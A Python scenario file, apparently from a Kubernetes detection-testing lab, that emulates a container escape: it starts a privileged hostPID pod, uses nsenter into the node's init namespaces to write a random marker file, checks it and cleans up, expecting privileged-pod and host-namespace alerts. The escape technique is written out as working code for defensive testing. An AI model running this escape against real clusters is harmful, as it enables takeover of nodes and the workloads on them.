"""Escape from a pod to its node: a privileged hostPID pod enters the node's PID 1 namespaces."""

from __future__ import annotations

import secrets

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.kubernetes._expect import OPERATOR_EXEC


class NsenterNode(Scenario):
    id = "kubernetes.escape.nsenter-node"
    title = "Pod escapes to its node with nsenter and leaves a file on the node"
    kind = Kind.ADVERSARY
    techniques = ("T1611", "T1610")
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.privileged-pod", "stowaway.k8s.host-namespace-pod"), within_s=20,
                         may_fire=OPERATOR_EXEC)
    twin = "kubernetes.deploy.node-agent-daemonset"
    tags = ("kubernetes", "escape")
    description = (
        "Creates a privileged pod with hostPID, then runs nsenter --target 1 (the node's init: the "
        "kind node's systemd, never the machine's) into its mount, UTS, IPC, network and PID "
        "namespaces and writes a marker file under /var/lib on the node. The scenario reads the "
        "marker back from the node container itself (outside Kubernetes) and removes it after."
    )

    def detonate(self, lab: Lab) -> None:
        marker = f"/var/lib/node-check-{secrets.token_hex(4)}"
        token = secrets.token_hex(8)
        lab.action("create a privileged hostPID pod and nsenter into the node")
        pod = lab.deploy(WorkloadSpec(role="debug", privileged=True, pid_mode="host"))
        node = lab.kubectl("get", "pod", pod.name, "-o", "jsonpath={.spec.nodeName}").output.strip()
        lab.cleanup(f"remove {marker} on {node}",
                    lambda: lab.node_exec(node, "rm", "-f", marker))
        lab.exec(pod, "nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--",
                 "sh", "-c", f"echo {token} > {marker}")
        seen = lab.node_exec(node, "cat", marker).output.strip()
        if seen != token:
            raise AssertionError(f"the marker did not land on the node {node}: {seen!r}")
